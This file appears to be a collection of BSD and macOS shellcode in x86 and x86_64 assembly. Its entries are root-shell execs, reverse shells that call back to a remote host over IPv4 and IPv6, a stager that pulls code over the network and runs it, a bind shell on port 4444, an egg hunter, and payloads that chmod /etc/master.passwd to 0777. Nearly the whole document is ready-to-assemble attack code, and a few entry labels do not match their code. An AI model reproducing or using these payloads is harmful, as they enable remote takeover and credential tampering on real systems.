; BSD, macOS and Solaris: further shells, stagers and searches. macOS' calls of 32 bits are BSD's.

;= osx32_setuid_exec 32 | freebsd x86 | execute /bin//sh
	xor eax, eax
	push eax
	mov al, 23
	push eax
	int 0x80
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push eax
	push ebx
	mov al, 59
	push eax
	int 0x80

;= osx32_vfork_exec 32 | freebsd x86 | execute /bin//sh
	xor eax, eax
	mov al, 66
	push eax
	int 0x80
	test edx, edx
	jz parent
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push eax
	push ebx
	mov al, 59
	push eax
	int 0x80
parent:	jmp short $

;= osx64_say 64 | macos x86_64 | execute /usr/bin/say
	xor rax, rax
	mov eax, 0x200003b
	call next
	db '/usr/bin/say', 0
	db 'kenbi', 0
next:	mov rdi, [rsp]
	mov rbx, rdi
	add rbx, 13
	xor rdx, rdx
	push rdx
	push rbx
	push rdi
	mov rsi, rsp
	syscall

;= osx64_stage 64 | macos x86_64 | connect 192.0.2.9
	mov eax, 0x2000061
	push 2
	pop rdi
	push 1
	pop rsi
	xor edx, edx
	syscall
	mov r12, rax
	mov rdi, rax
	mov rcx, 0x090200c05c110200
	push rcx
	mov rsi, rsp
	push 16
	pop rdx
	mov eax, 0x2000062
	syscall
	mov eax, 0x20000c5
	xor edi, edi
	mov esi, 0x1000
	mov edx, 7
	mov r10d, 0x1002
	xor r8d, r8d
	dec r8
	xor r9d, r9d
	syscall
	mov rsi, rax
	mov rdi, r12
	mov edx, 0x1000
	mov r10d, 0x40
	xor r8d, r8d
	xor r9d, r9d
	mov eax, 0x200001d
	push rsi
	syscall
	ret

;= freebsd_egg 32 | - x86 | -
	xor edx, edx
	mov ebx, 0x696e656b
page:	or dx, 0xfff
next:	inc edx
	push edx
	push byte 0
	lea eax, [edx + 4]
	push eax
	push byte 33
	pop eax
	push eax
	int 0x80
	add esp, 12
	pop edx
	cmp al, 14
	je page
	cmp [edx], ebx
	jnz next
	cmp [edx + 4], ebx
	jnz next
	jmp edx

;= freebsd64_exec_stack 64 | - x86_64 | execute /bin//sh
	xor edx, edx
	push rdx
	mov rax, '/bin//sh'
	push rax
	mov rdi, rsp
	push rdx
	push rdi
	mov rsi, rsp
	push 59
	pop rax
	syscall

;= openbsd64_reverse 64 | freebsd x86_64 | connect 192.0.2.9
	xor edx, edx
	push 2
	pop rdi
	push 1
	pop rsi
	push 97
	pop rax
	syscall
	xchg edi, eax
	mov rcx, 0x090200c05c110200
	push rcx
	mov rsi, rsp
	push 16
	pop rdx
	push 98
	pop rax
	syscall
	push 2
	pop rsi
d:	push 90
	pop rax
	syscall
	dec esi
	jns d
	cdq
	push 0
	mov rax, '/bin//sh'
	push rax
	mov rdi, rsp
	xor esi, esi
	xor edx, edx
	push 59
	pop rax
	syscall

;= freebsd_chmod_master 32 | freebsd x86 | call file.attributes
	xor eax, eax
	push eax
	push dword 'sswd'
	push dword 'r.pa'
	push dword 'aste'
	push dword 'tc/m'
	push word '/e'
	mov ebx, esp
	push word 0x1ff
	push word 0
	pop eax
	push dword 0x1ff
	push ebx
	push eax
	push byte 15
	pop eax
	int 0x80

;= freebsd_command 32 | freebsd x86 | execute /bin/sh -c
	jmp short down
up:	pop esi
	xor eax, eax
	mov [esi + 7], al
	mov [esi + 10], al
	lea ebx, [esi + 11]
	lea ecx, [esi + 8]
	push eax
	push ebx
	push ecx
	push esi
	mov ebx, esp
	push eax
	push ebx
	push esi
	push eax
	mov al, 59
	int 0x80
down:	call up
	db '/bin/shA-cAecho kenbi', 0

;= freebsd_reverse_ipv6 32 | freebsd x86 | connect 2001:db8::5
	xor eax, eax
	push eax
	push byte 1
	push byte 28
	push eax
	mov al, 97
	int 0x80
	mov edi, eax
	xor eax, eax
	push eax
	push dword 0x05000000
	push eax
	push eax
	push dword 0xb80d0120
	push eax
	push dword 0x5c111c1c
	mov ecx, esp
	push byte 28
	push ecx
	push edi
	push eax
	mov al, 98
	int 0x80
	push byte 2
	pop ebx
d:	push ebx
	push edi
	push eax
	push byte 90
	pop eax
	int 0x80
	dec ebx
	jns d
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push eax
	push ebx
	push eax
	mov al, 59
	int 0x80

;= osx64_chmod 64 | macos x86_64 | call file.attributes
	lea rdi, [rel p]
	mov esi, 0x1ff
	mov eax, 0x200000f
	syscall
	mov eax, 0x2000001
	xor edi, edi
	syscall
p:	db '/etc/master.passwd', 0

;= osx64_hi_class 64 | macos x86_64 | execute /bin//sh
	xor rdx, rdx
	push rdx
	mov rbx, '/bin//sh'
	push rbx
	mov rdi, rsp
	push rdx
	push rdi
	mov rsi, rsp
	push 59
	pop rax
	bts rax, 25
	syscall

;= osx64_bind_xor 64 | macos x86_64 | bind 4444
	mov r8b, 0x02
	shl r8, 24
	or r8, 0x61
	mov rax, r8
	xor rdx, rdx
	mov rsi, rdx
	inc rsi
	mov rdi, rsi
	inc rdi
	syscall
	mov r12, rax
	mov rdi, rax
	xor rsi, rsi
	push rsi
	push dword 0
	mov rax, 0x5c110210
	mov [rsp], rax
	mov rsi, rsp
	mov edx, 16
	mov rax, r8
	mov al, 104
	syscall
	mov rax, r8
	mov al, 106
	mov rdi, r12
	xor rsi, rsi
	syscall
	mov rax, r8
	mov al, 30
	mov rdi, r12
	xor rsi, rsi
	xor rdx, rdx
	syscall

;= netbsd_kill 32 | freebsd x86 | call process.terminate
	push byte 9
	push byte -1
	push eax
	push byte 37
	pop eax
	int 0x80

;= bsd_find_port 32 | freebsd x86 | execute /bin//sh
	xor edi, edi
	sub esp, 0x20
	mov ebp, esp
	push byte 16
	mov ecx, esp
next:	push ecx
	push ebp
	push edi
	push eax
	push byte 31
	pop eax
	int 0x80
	add esp, 16
	inc edi
	lea ecx, [esp]
	cmp word [ebp + 2], 0x5c11
	jne next
	dec edi
	push byte 2
	pop ebx
d:	push ebx
	push edi
	push eax
	push byte 90
	pop eax
	int 0x80
	add esp, 12
	dec ebx
	jns d
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push eax
	push ebx
	push eax
	mov al, 59
	int 0x80
